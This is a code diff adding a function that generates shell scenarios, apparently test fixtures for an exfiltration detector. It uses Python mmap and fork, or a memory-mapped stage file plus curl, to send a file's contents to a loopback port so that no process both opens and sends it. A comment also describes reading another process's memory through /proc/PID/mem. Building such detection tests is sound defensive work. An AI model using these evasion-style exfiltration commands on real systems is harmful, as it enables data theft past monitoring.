@@ -130,6 +130,51 @@ s.close()
 }
 
 /**
+ * Shared memory, no syscall between two processes. `anon`: python3 makes an
+ * anonymous shared mapping and forks; the parent then reads `file` and
+ * copies it into the mapping; the child, which never opens `file` and had
+ * nothing when it was forked, polls the mapping and sends what appears to
+ * 127.0.0.2:PORT. `file`: python3 maps `stage` shared and read-write, then
+ * reads `file` and copies it into the mapping (no write(2)), unmaps; curl
+ * then uploads `stage`. `unmapFirst` unmaps `stage` before the read: the
+ * stage holds no secret then and nothing may fire.
+ */
+export function sharedMemoryScenario(file: string, port: number, o: { mode: 'anon' } | { mode: 'file'; stage: string; unmapFirst?: boolean }): string {
+  if (o.mode === 'anon') {
+    return `python3 -c '
+import mmap, os, socket, time
+m = mmap.mmap(-1, 1 << 16)
+pid = os.fork()
+if pid == 0:
+    while m[0] == 0:
+        time.sleep(0.005)
+    n = int.from_bytes(m[1:5], "little")
+    s = socket.create_connection(("127.0.0.2", ${port}))
+    s.sendall(m[5:5 + n])
+    s.close()
+    os._exit(0)
+time.sleep(0.05)
+d = open("${file}", "rb").read()
+m[5:5 + len(d)] = d
+m[1:5] = len(d).to_bytes(4, "little")
+m[0] = 1
+os.waitpid(pid, 0)
+'`;
+  }
+  const copy = o.unmapFirst
+    ? ['m.close()', `d = open("${file}", "rb").read()`, 'assert len(d) > 0']
+    : [`d = open("${file}", "rb").read()`, 'm[:len(d)] = d', 'm.flush()', 'm.close()'];
+  return `python3 -c '
+import mmap, os
+fd = os.open("${o.stage}", os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
+os.ftruncate(fd, 1 << 16)
+m = mmap.mmap(fd, 1 << 16)
+os.close(fd)
+${copy.join('\n')}
+' && curl -s -m 10 --data-binary @${o.stage} http://127.0.0.2:${port}/ -o /dev/null`;
+}
+
+/**
  * Another process' memory: a python3 "server" reads `file` and keeps it in
  * memory; a second python3, which never opens `file`, finds it in the
  * server's memory (regions from /proc/PID/maps, read through /proc/PID/mem
